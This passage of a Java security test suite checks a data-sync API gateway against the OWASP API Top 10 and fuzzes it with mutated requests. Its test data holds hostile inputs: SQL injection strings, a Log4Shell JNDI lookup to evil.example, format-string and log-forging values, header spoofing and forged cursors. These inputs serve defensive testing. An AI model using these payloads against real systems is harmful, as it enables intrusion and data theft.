                unlike(hash("pull-data", victimHash, ",\"table_name\":\"orders\",\"conflict_strategy\":\"skip\""),
                        attack("a strategy by SQL", hash("pull-data", victimHash,
                                ",\"table_name\":\"orders\",\"conflict_strategy\":\"skip'--\""), 400)),
                unlike(hash("table-records", victimHash, ",\"table_name\":\"orders\",\"ids\":[[\"' OR 1=1 --\",1]]"),
                        attack("an id by SQL", hash("table-records", victimHash,
                                ",\"table_name\":\"orders\",\"ids\":[[\"shop 1\",\"1 OR 1=1\"]]"), 400)),
                unlike(hash("list-tables", victimHash, ""),
                        attack("a hash by SQL", hash("list-tables", "' OR '1'='1", ""), 401),
                        attack("a template", hash("list-tables", "${jndi:ldap://evil.example/x}", ""), 401),
                        attack("a format", hash("list-tables", "%n%n%s%x%d", ""), 401),
                        attack("a line of the log, made up",
                                hash("list-tables", "x\\n2026-01-01 ERROR all is lost", ""), 401)),
                unlike(site("verify-connection", "http://victim.example", victimHash, ""),
                        attack("a site by SQL", site("verify-connection", "' OR ''='", victimHash, ""), 404),
                        attack("half of a surrogate pair", site("verify-connection", "\\ud800", victimHash, ""), 400)),
                unlike(as(viewer, "GET", "/connections?site_url=%27%20OR%20%271%27=%271", ""),
                        attack("a parameter with NUL", as(viewer, "GET", "/connections?site_url=%00", ""), 400),
                        attack("a parameter without a name", as(viewer, "GET", "/connections?=%27", ""), 400),
                        attack("a parameter that is no encoded text",
                                as(viewer, "GET", "/connections?site_url=%zz", ""), 400),
                        attack("a parameter that is no UTF-8", as(viewer, "GET", "/connections?site_url=%ff", ""),
                                400)),
                unlike(as(operator, "POST", "/connections/" + thrownAway().uuid() + "/suspend",
                        "{\"reason\":\"<script>\"}"),
                        attack("a reason in HTML",
                                as(viewer, "POST", "/connections/" + victim + "/suspend",
                                        "{\"reason\":\"<script>\"}"),
                                403)));
    }

    private static List<Attack> inventory() {
        String list = "{\"auth_token_hash\":\"" + victimHash + "\"}";
        return all(unlike(peer("list-tables", list),
                attack("another version of the API", peer("../v0/list-tables", list), 400, 404),
                attack("a call that there is not", peer("import-data", "{}"), 404),
                attack("the API without its prefix", post("/sync/api/list-tables", "", list), 404),
                attack("a call with a slash behind it", post(API + "list-tables/", "", list), 404),
                attack("a call with an extension", post(API + "list-tables.json", "", list), 404),
                attack("a call by GET", get(API + "pull-data?auth_token_hash=" + victimHash, ""), 405),
                attack("the status by POST", peer("status", "{}"), 405)),
                unlike(as(viewer, "GET", "/connections", ""),
                        attack("an operator's call that there is not", as(viewer, "GET", "/users", ""), 404)));
    }

    private static List<Attack> unsafeConsumption() {
        String list = "{\"auth_token_hash\":\"" + victimHash + "\"}";
        return all(
                unlike(peer("list-tables", list),
                        attack("an answer in another type", with("POST", API + "list-tables",
                                "Content-Type: application/json\r\nAccept: text/html\r\n", list), 406)),
                // Nobody has made us trust a proxy: the caller is where the socket is.
                unlike(hash("list-tables", unwalledHash, ""),
                        attack("an address by X-Forwarded-For", from("X-Forwarded-For: 203.0.113.9", walledHash), 403),
                        attack("an address by X-Forwarded-For, with a quote",
                                from("X-Forwarded-For: 203.0.113.9, ' OR 1", walledHash), 403),
                        attack("an address by Forwarded", from("Forwarded: for=203.0.113.9", walledHash), 403)),
                unlike(site("verify-connection", "http://victim.example", victimHash, ""),
                        attack("an agent with a line of the log", with("POST", API + "verify-connection",
                                "Content-Type: application/json\r\nUser-Agent: PhoenixKit-Sync/${jndi:ldap://x}\r\n",
                                "{\"sender_url\":\"a\",\"auth_token_hash\":\"b\"}"), 404)));
    }

    private static String from(String header, String hash) {
        return post(API + "list-tables", header + "\r\n", "{\"auth_token_hash\":\"" + hash + "\"}");
    }

    @TestFactory
    Stream<DynamicNode> attacks() {
        Map<String, List<Attack>> risks = new LinkedHashMap<>();
        risks.put("API1 Broken object level authorization", objectLevelAuthorization());
        risks.put("API2 Broken authentication", all(authentication().stream(), issuedTokens().stream()));
        risks.put("API3 Broken object property level authorization", propertyLevelAuthorization());
        risks.put("API4 Unrestricted resource consumption", resourceConsumption());
        risks.put("API5 Broken function level authorization", functionLevelAuthorization());
        risks.put("API6 Unrestricted access to sensitive business flows", businessFlows());
        risks.put("API7 Server side request forgery", serverSideRequests());
        risks.put("API8 Security misconfiguration", all(misconfiguration().stream(), injection().stream()));
        risks.put("API9 Improper inventory management", inventory());
        risks.put("API10 Unsafe consumption of APIs", unsafeConsumption());
        AtomicReference<String> before = new AtomicReference<>("");
        return Stream.of(
                risks.entrySet().stream().map(risk -> permitted(risk.getKey(), risk.getValue())),
                Stream.of(DynamicTest.dynamicTest("before the attacks", () -> before.set(state()))),
                risks.entrySet().stream().map(risk -> risk(risk.getKey(), risk.getValue())),
                Stream.of(DynamicTest.dynamicTest("nothing has changed",
                        () -> assertThat(state()).isEqualTo(before.get()))))
                .flatMap(Function.identity());
    }

    /** All of it first, since what may be done changes something. */
    private static DynamicContainer permitted(String name, List<Attack> attacks) {
        Map<String, String> permitted = new LinkedHashMap<>();
        attacks.stream()
                .filter(attack -> !attack.permitted().isEmpty())
                .forEach(attack -> permitted.putIfAbsent(attack.permitted(), attack.what()));
        assertThat(permitted).as(name).isNotEmpty();
        return DynamicContainer.dynamicContainer("Unlike " + name, permitted.entrySet()
                .stream()
                .map(one -> DynamicTest.dynamicTest("unlike " + one.getValue(), () -> {
                    Wire.Answer answer = ask(one.getKey());
                    assertThat(answer.status()).as(answer.text()).isBetween(200, 299);
                })));
    }

    private static DynamicContainer risk(String name, List<Attack> attacks) {
        return DynamicContainer.dynamicContainer(name,
                attacks.stream().map(attack -> DynamicTest.dynamicTest(attack.what(), () -> {
                    Wire.Answer answer = ask(attack.request());
                    assertThat(answer.status()).as(answer.text()).isIn(attack.allowed());
                    assertNothingInternal(answer.text());
                })));
    }

    private static Wire.Answer ask(String request) {
        return Awaitility.await("the issuer has answered")
                .atMost(Duration.ofMinutes(1))
                .pollDelay(Duration.ZERO)
                .until(() -> askOnce(request.getBytes(StandardCharsets.UTF_8)), one -> !saysThatTheIssuerIsAway(one));
    }

    @Test
    void listed_areOnlyTheTablesThatMayBePulled() {
        assertThat(listed(victimHash)).containsExactlyInAnyOrderElementsOf(SERVED);
        assertThat(listed(otherHash)).containsExactly("goods");
        assertThat(listed(excludingHash)).containsExactlyInAnyOrder("goods", ODD, "orders");
    }

    private static List<String> listed(String hash) {
        return json(gateway.call("list-tables", "{\"auth_token_hash\":\"" + hash + "\"}")).path("tables")
                .valueStream()
                .map(table -> table.path("name").asString())
                .toList();
    }

    /** A filter is a value, not a condition. */
    @Test
    void connectionsFilteredBySql_areNone() {
        String all = "/connections?site_url=";
        assertThat(json(gateway.admin("GET", all + "http://victim.example", null)).path("connections")).hasSize(1);
        assertThat(json(gateway.admin("GET", all + "%27%20OR%20%271%27=%271", null)).path("connections")).isEmpty();
    }

    /** Whoever registers says who it is, and nothing else of its record. */
    @Test
    void registeredWithFieldsOfOurs_hasNoneOfThem() {
        String site = newSite();
        String made = json(gateway.call("register-connection", "{\"sender_url\":\"" + site
                + "\",\"connection_name\":\"N\",\"auth_token\":\"t\",\"password\":\"" + INCOMING_PASSWORD
                + "\",\"direction\":\"sender\",\"status\":\"revoked\",\"registered_via\":\"operator\",\"uuid\":\""
                + victim + "\"}")).path("connection_uuid").asString();
        assertThat(made).isNotEqualTo(victim);
        JsonNode shown = json(gateway.admin("GET", "/connections/" + made, null));
        assertThat(shown.path("direction").asString()).isEqualTo("receiver");
        assertThat(shown.path("status").asString()).isEqualTo("active");
        assertThat(shown.path("registered_via").asString()).isEqualTo("api");
    }

    private static Wire.Answer askOnce(byte[] request) throws IOException {
        try (Wire wire = new Wire(port)) {
            return wire.askOnce(request);
        }
    }

    /** The issuer has 3 s for its keys: where the machine stands still for so long, this is the right answer. */
    private static boolean saysThatTheIssuerIsAway(Wire.Answer answer) {
        return answer.status() == 503 && answer.text().contains("the keys of its issuer cannot be read now");
    }

    private static void assertNothingInternal(String answer) {
        assertThat(answer).doesNotContain("Exception")
                .doesNotContain("java.")
                .doesNotContain("org.postgresql")
                .doesNotContain("io.syncline")
                .doesNotContain("SELECT ")
                .doesNotContainIgnoringCase("tomcat")
                .doesNotContainIgnoringCase("\nserver:")
                .doesNotContain("\"sealed_token\":")
                .doesNotContain("\"fingerprint\":")
                .doesNotContain(SECRET);
    }

    // ---- requests that are none

    @Test
    void fuzz_neverAFault_neverAHang_healthyAfterwards() throws Exception {
        String before = state();
        Set<String> there = connections();
        String fuzzing = appoint("fuzzing", "operator");
        // So that registrations get as far as a worker, and hashing no password takes the time.
        mode("auto_accept");
        Tried tried = new Tried(fuzzing);
        long begun = System.nanoTime();
        List<Thread> fuzzers = new ArrayList<>();
        for (int i = 0; i < FUZZERS; i++) {
            Fuzzer fuzzer = new Fuzzer(i, FUZZED / FUZZERS, tried);
            fuzzers.add(Thread.ofVirtual().start(fuzzer));
        }
        for (Thread fuzzer : fuzzers) {
            fuzzer.join();
        }
        System.out.println(tried.sent.get() + " requests in "
                + Duration.ofNanos(System.nanoTime() - begun).toSeconds()
                + " s: " + tried.statuses.stream()
                        .collect(Collectors.groupingBy(status -> status, TreeMap::new, Collectors.counting()))
                + ", done: " + tried.done);
        assertThat(tried.faults).isEmpty();
        assertThat(tried.sent.get()).isEqualTo(FUZZED);
        assertThat(tried.undecided.get()).as("told that the machine stood still").isLessThan(FUZZED / 100);
        assertThat(tried.done.keySet()).as("requests that get as far as they can")
                .containsAll(Stream.concat(Fuzzer.PEERS.stream(), Fuzzer.OPERATORS.stream()).toList());

        Awaitility.await("healthy")
                .atMost(Duration.ofMinutes(1))
                .until(() -> gateway.get("/actuator/health/readiness").statusCode() == 200);
        mode("require_password");
        json204(gateway.admin("DELETE", "/operators/fuzzing", null));
        for (String uuid : connections()) {
            if (!there.contains(uuid)) {
                json204(gateway.admin("DELETE", "/connections/" + uuid, null));
            }
        }
        assertThat(withoutTimes(state())).isEqualTo(withoutTimes(before));
    }

    private static void mode(String mode) {
        json(gateway.admin("PATCH", "/settings", "{\"incoming_mode\":\"" + mode + "\"}"));
    }

    private static void json204(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isEqualTo(204);
    }

    /** The settings are changed for the fuzz, and changed back. */
    private static String withoutTimes(String state) {
        return state.replaceFirst("\"updated_at\":\"[^\"]*\"", "");
    }

    private static Set<String> connections() {
        Set<String> uuids = new HashSet<>();
        String cursor = "";
        do {
            JsonNode page = json(gateway.admin("GET", "/connections?limit=500" + cursor, null));
            page.path("connections").forEach(one -> uuids.add(one.path("uuid").asString()));
            cursor = page.has("next_cursor") ? "&cursor=" + page.path("next_cursor").asString() : "";
        } while (!cursor.isEmpty());
        return uuids;
    }

    /** What all fuzzers together have tried, and what came of it. */
    private static final class Tried {

        private final String operator;
        private final AtomicInteger sent = new AtomicInteger();
        private final AtomicInteger undecided = new AtomicInteger();
        private final Queue<String> faults = new ConcurrentLinkedQueue<>();
        private final Queue<Integer> statuses = new ConcurrentLinkedQueue<>();
        private final Map<String, Integer> done = new ConcurrentSkipListMap<>();

        Tried(String operator) {
            this.operator = operator;
        }
    }

    /**
     * Mutates requests that are right, and sends them over connections that are kept while the server keeps them. What it
     * suspends, limits or deletes is its own: a sender connection, another one now and then.
     */
    private static final class Fuzzer implements Runnable {

        private static final List<String> PEERS = List.of("register-connection", "verify-connection", "update-status",
                "delete-connection", "get-connection-status", "list-tables", "table-schema", "table-records",
                "pull-data");
        private static final List<String> CALLS = Stream
                .concat(PEERS.stream(), Stream.of("status", "", "x", "../status"))
                .toList();
        /** Of its own connection, and in general. */
        private static final List<String> OPERATORS = List.of("GET /settings", "PATCH /settings", "GET /connections",
                "POST /connections", "GET /connections/{uuid}", "PATCH /connections/{uuid}",
                "DELETE /connections/{uuid}", "POST /connections/{uuid}/suspend", "POST /connections/{uuid}/reactivate",
                "POST /connections/{uuid}/revoke", "POST /connections/{uuid}/rotate-token", "GET /transfers",
                "GET /events", "GET /tables", "GET /workers", "GET /operators");
        private static final List<String> ADMIN = Stream.concat(OPERATORS.stream(),
                Stream.of("POST /connections/{uuid}/approve", "POST /transfers/{uuid}/approve",
                        "POST /transfers/{uuid}/deny", "POST /operators", "DELETE /operators/a-viewer",
                        "GET /connections/x", "GET /connections?limit=x", "GET /events?cursor=MTox",
                        "GET /transfers?state=waiting", "GET /%", "GET /.."))
                .toList();
        private static final List<String> FIELDS = List.of("sender_url", "connection_name", "auth_token", "password",
                "auth_token_hash", "status", "receiver_url", "table_name", "limit", "offset", "ids", "id_start",
                "id_end", "cursor", "since", "conflict_strategy", "name", "direction", "site_url", "enabled",
                "incoming_mode", "reason", "notify", "max_downloads", "max_records_total", "max_records_per_request",
                "allowed_tables", "excluded_tables", "ip_whitelist", "allowed_hours_start", "allowed_hours_end",
                "approval_mode", "auto_approve_tables", "rate_limit_requests_per_minute", "expires_at",
                "overlap_seconds", "valid_for_minutes", "state", "");
        /** With the module disabled, or no mode to register in, nothing more would get any further. */
        private static final List<String> NOT_THE_OPERATORS = List.of("enabled", "incoming_mode");
        /** What a pull may ask for besides the table. */
        private static final List<List<String>> PAGES = List.of(List.of(), List.of("limit"), List.of("limit", "cursor"),
                List.of("cursor"), List.of("limit", "since"), List.of("since", "cursor"));
        private static final List<String> METHODS = List.of("POST", "GET", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS",
                "FOO");
        private static final Pattern TOKENS = Pattern.compile("\"(next_cursor|as_of)\":\"([^\"]+)\"");
        private static final int RENEWED_EVERY = 200;

        private final int number;
        private final Random random;
        private final int count;
        private final Tried tried;
        /** As answers have given them. */
        private final Map<String, String> given = new HashMap<>();
        private Sender own;

        Fuzzer(int number, int count, Tried tried) {
            this.number = number;
            this.random = new Random(SEED + number);
            this.count = count;
            this.tried = tried;
            this.own = another(0);
        }

        private Sender another(int nth) {
            return sender("http://fuzzer-" + number + "-" + nth + ".example", "");
        }

        @Override
        public void run() {
            Wire kept = null;
            try {
                for (int i = 1; i <= count; i++) {
                    if (i % RENEWED_EVERY == 0) {
                        own = another(i);
                    }
                    Request request = random.nextInt(8) == 0 ? operators() : peers();
                    byte[] bytes = bytes(request);
                    Wire.Answer answer;
                    if (head(bytes) || random.nextInt(5) == 0) {
                        answer = askOnce(head(bytes) ? bytes : mutated(bytes));
                    } else {
                        kept = kept == null ? new Wire(port) : kept;
                        answer = kept.ask(bytes);
                        if (!answer.open()) {
                            kept.close();
                            kept = null;
                        }
                    }
                    look(request, bytes, answer);
                }
            } catch (IOException | RuntimeException | AssertionError e) {
                tried.faults.add(e.toString());
            } finally {
                close(kept);
            }
        }

        private void look(Request request, byte[] bytes, Wire.Answer answer) {
            tried.sent.incrementAndGet();
            tried.statuses.add(answer.status());
            if (saysThatNothingWasDecided(answer)) {
                tried.undecided.incrementAndGet();
            } else
                if (answer.status() >= 500 && !saysThatTheIssuerIsAway(answer)
                        || answer.text().contains("Exception") || answer.text().contains(SECRET)) {
                            tried.faults.add(answer.text() + " <- " + new String(bytes, StandardCharsets.ISO_8859_1));
                        }
            if (answer.status() >= 200 && answer.status() < 300) {
                tried.done.merge(request.done(), 1, Integer::sum);
                Matcher token = TOKENS.matcher(request.what().equals("pull-data") ? answer.text() : "");
                while (token.find()) {
                    given.put(token.group(1), token.group(2));
                }
            }
        }

        /** True of a machine that stands still for longer than a request waits, and of no other. */
        private static boolean saysThatNothingWasDecided(Wire.Answer answer) {
            return answer.status() == 503 && answer.text().contains("Retry-After") && Stream
                    .of("was not applied", "whether the request was applied", "was not begun",
                            "The state database is too slow now", "The state database cannot be used now")
                    .anyMatch(answer.text()::contains);
        }

        /** Its answer names a length and has no body. */
        private static boolean head(byte[] request) {
            return request[0] == 'H';
        }

        private static void close(Wire wire) {
            try {
                if (wire != null) {
                    wire.close();
                }
            } catch (IOException e) {
                // Nothing more is asked of it.
            }
        }

        /** @param what names the call; an operator's with its method, which may have become another one */
        private record Request(String what, String method, String path, String authorization, String body) {

            String done() {
                return what.contains(" ") ? method + what.substring(what.indexOf(' ')) : what;
            }
        }

        private Request peers() {
            String call = pick(CALLS);
            String method = PEERS.contains(call) ? "POST" : "GET";
            return new Request(call, random.nextInt(3) == 0 ? pick(METHODS) : method, API + call, "",
                    body(switch (call) {
                        case "register-connection" -> List.of("sender_url", "connection_name", "auth_token");
                        case "verify-connection", "delete-connection" -> List.of("sender_url", "auth_token_hash");
                        case "update-status" -> List.of("sender_url", "auth_token_hash", "status");
                        case "get-connection-status" -> List.of("receiver_url", "auth_token_hash");
                        case "table-schema", "table-records" -> List.of("auth_token_hash", "table_name");
                        case "pull-data" -> Stream.concat(Stream.of("auth_token_hash", "table_name"),
                                PAGES.get(random.nextInt(PAGES.size())).stream()).toList();
                        default -> List.of("auth_token_hash");
                    }, FIELDS));
        }

        private Request operators() {
            String what = pick(ADMIN);
            String method = what.substring(0, what.indexOf(' '));
            String path = what.substring(what.indexOf(' ') + 1).replace("{uuid}", own.uuid());
            if (!path.contains("?") && random.nextBoolean()) {
                path += "?" + pick(List.of("limit", "cursor", "site_url", "state", "status", "direction", "")) + "="
                        + pick(List.of("1", "500", "-1", "ended", "running", "approved", "active", "sender", "%00",
                                "%zz", "%ff", ""));
            }
            String token = pick(List.of(tried.operator, tried.operator, tried.operator, tried.operator, viewer,
                    auditor, "x", "", nearlyIssued(), nearlyIssued()));
            List<String> fields = token.equals(tried.operator)
                    ? FIELDS.stream().filter(field -> !NOT_THE_OPERATORS.contains(field)).toList()
                    : FIELDS;
            return new Request(what, random.nextInt(8) == 0 ? pick(METHODS) : method, "/admin/api" + path,
                    random.nextInt(10) == 0 ? "" : "Authorization: Bearer " + token + "\r\n",
                    what.equals("POST /connections") ? body(List.of("direction", "name", "site_url"), fields)
                            : body(List.of(), what.endsWith("{uuid}/suspend") ? List.of("reason") : fields));
        }

        private byte[] bytes(Request request) {
            byte[] body = request.body().getBytes(StandardCharsets.UTF_8);
            if (random.nextInt(4) == 0) {
                body = mutated(body);
            }
            StringBuilder head = new StringBuilder(request.method()).append(' ')
                    .append(request.path())
                    .append(" HTTP/1.1\r\nHost: a\r\n")
                    .append(request.authorization());
            if (random.nextInt(20) != 0) {
                head.append("Content-Type: ")
                        .append(pick(List.of("application/json", "application/json", "application/json",
                                "application/json", "application/json; charset=utf-8", "text/plain", "a", "/")))
                        .append("\r\n");
            }
            if (random.nextInt(10) == 0) {
                head.append("Accept: application/x-ndjson\r\n");
            } else if (random.nextInt(10) == 0) {
                head.append(pick(List.of("Accept: ", "User-Agent: ", "If-Match: ", "X-Forwarded-For: ", "Cookie: ",
                        "X-Download-Password: ")))
                        .append(printable())
                        .append("\r\n");
            }
            byte[] front = head.append("Content-Length: ")
                    .append(body.length)
                    .append("\r\n\r\n")
                    .toString()
                    .getBytes(StandardCharsets.ISO_8859_1);
            byte[] whole = Arrays.copyOf(front, front.length + body.length);
            System.arraycopy(body, 0, whole, front.length, body.length);
            return whole;
        }

        /** A viewer's token of the issuer, or something like it. */
        private String nearlyIssued() {
            StringBuilder token = new StringBuilder(issued);
            for (int i = random.nextInt(4); i > 0; i--) {
                token.setCharAt(random.nextInt(token.length()), (char) (33 + random.nextInt(94)));
            }
            return token.toString();
        }

        /** What a call needs, as it should be as a rule, and anything besides. */
        private String body(List<String> needed, List<String> others) {
            Map<String, String> body = new LinkedHashMap<>();
            if (random.nextInt(5) != 0) {
                needed.forEach(field -> body.put(field, fitting(field)));
            }
            for (int i = random.nextInt(4); i > 0; i--) {
                String field = pick(others);
                body.put(field, random.nextBoolean() ? fitting(field) : value(3));
            }
            if (body.containsKey("cursor") && random.nextBoolean()) {
                body.put("cursor", json(madeUp(body.getOrDefault("table_name", ""))));
            }
            // One site, one token: only so is the hash what opens it.
            if (body.containsKey("sender_url") && random.nextInt(5) != 0) {
                int site = random.nextInt(50);
                body.put("sender_url", "\"http://f" + site + ".example\"");
                body.computeIfPresent("auth_token", (_, _) -> "\"f" + site + "\"");
                body.computeIfPresent("auth_token_hash", (_, _) -> json(TokenHash.ofToken("f" + site).text()));
            }
            return body.entrySet()
                    .stream()
                    .map(field -> "\"" + field.getKey() + "\":" + field.getValue())
                    .collect(Collectors.joining(",", "{", "}"));
        }

        private String fitting(String field) {
            return switch (field) {
                case "auth_token_hash" -> json(pick(List.of(own.hash(), own.hash(), own.hash(), own.hash(),
                        victimHash.substring(1), suspendedHash, receiverHash)));
                case "table_name" -> json(pick(random.nextInt(4) == 0 ? NEVER_SERVED : SERVED));
                case "sender_url", "site_url", "receiver_url" -> "\"http://f" + random.nextInt(50) + ".example\"";
                case "connection_name", "name", "reason" -> "\"n\"";
                case "auth_token" -> "\"f" + random.nextInt(50) + "\"";
                case "status" -> json(pick(List.of("active", "suspended", "revoked")));
                case "ids" -> "[" + id() + "," + id() + "]";
                case "id_start", "id_end" -> id();
                case "cursor" -> json(given.getOrDefault("next_cursor", ""));
                case "since" -> json(given.getOrDefault("as_of", ""));
                case "conflict_strategy" -> json(pick(List.of("skip", "overwrite", "merge", "append")));
                case "direction" -> "\"sender\"";
                case "enabled", "notify" -> Boolean.toString(random.nextBoolean());
                case "incoming_mode" -> json(pick(List.of("deny_all", "auto_accept")));
                case "approval_mode" -> json(pick(List.of("auto_approve", "require_approval", "per_table")));
                case "allowed_tables", "excluded_tables", "auto_approve_tables" -> "[" + json(pick(SERVED)) + "]";
                case "ip_whitelist" -> "[\"127.0.0.1\",\"::/0\"]";
                case "expires_at" -> json(Instant.now().plusSeconds(random.nextInt(600) - 60).toString());
                default -> Integer.toString(random.nextInt(300));
            };
        }

        private String id() {
            return random.nextBoolean() ? Integer.toString(random.nextInt(300))
                    : "[\"shop " + random.nextInt(9) + "\"," + random.nextInt(300) + "]";
        }

        /** A cursor with its check sum, as anybody could make one who has read how. */
        private String madeUp(String table) {
            String before = given.getOrDefault("next_cursor", "");
            if (before.isEmpty()) {
                return before;
            }
            byte[] all = Base64.getUrlDecoder().decode(before);
            byte[] body = mutated(Arrays.copyOfRange(all, 5, all.length));
            CRC32 check = new CRC32();
            check.update('c');
            check.update(table.replace("\"", "").getBytes(StandardCharsets.UTF_8));
            check.update(0);
            check.update(body);
            return Base64.getUrlEncoder()
                    .withoutPadding()
                    .encodeToString(ByteBuffer.allocate(5 + body.length)
                            .put((byte) 'c')
                            .putInt((int) check.getValue())
                            .put(body)
                            .array());
        }

        private String value(int depth) {
            return switch (random.nextInt(depth == 0 ? 9 : 11)) {
                case 0 -> "null";
                case 1 -> "true";
                case 2 -> Long.toString(random.nextLong());
                case 3 -> Double.toString(random.nextGaussian() * Math.pow(10, random.nextInt(300)));
                case 4 -> "\"" + printable().replace("\\", "").replace("\"", "") + "\"";
                case 5 -> "\"\\u" + "%04x".formatted(random.nextInt(65_536)) + "\"";
                case 6 -> "\"http://f" + random.nextInt(50) + ".example\"";
                case 7 -> "\"" + TokenHash.ofToken("f" + random.nextInt(50)).text() + "\"";
                case 8 -> json(pick(List.of("active", "suspended", "skip", "orders", "t", "sender", "1", "-1",
                        own.hash())));
                case 9 -> "[" + value(depth - 1) + "," + value(depth - 1) + "]";
                default -> "{\"" + pick(FIELDS) + "\":" + value(depth - 1) + "}";
            };
        }

        private String printable() {
            StringBuilder text = new StringBuilder();
            int length = random.nextInt(30);
            for (int i = 0; i < length; i++) {
                text.append((char) (32 + random.nextInt(95)));
            }
            return text.toString();
        }

        /** Bytes changed, left out, doubled, or put in. */
        private byte[] mutated(byte[] bytes) {
            byte[] out = bytes.clone();
            int changes = 1 + random.nextInt(4);
            for (int i = 0; i < changes && out.length > 1; i++) {
                int at = random.nextInt(out.length);
                switch (random.nextInt(4)) {
                    case 0 -> out[at] = (byte) random.nextInt(256);
                    case 1 -> out = Arrays.copyOf(out, at);
                    case 2 -> out[at] ^= (byte) (1 << random.nextInt(8));
                    default -> {
                        int length = Math.min(random.nextInt(20), out.length - at);
                        byte[] more = Arrays.copyOf(out, out.length + length);
                        System.arraycopy(out, at, more, at + length, out.length - at);
                        out = more;
                    }
                }
            }
            return out;
        }

        private String pick(List<String> from) {
            return from.get(random.nextInt(from.size()));
        }
    }
}
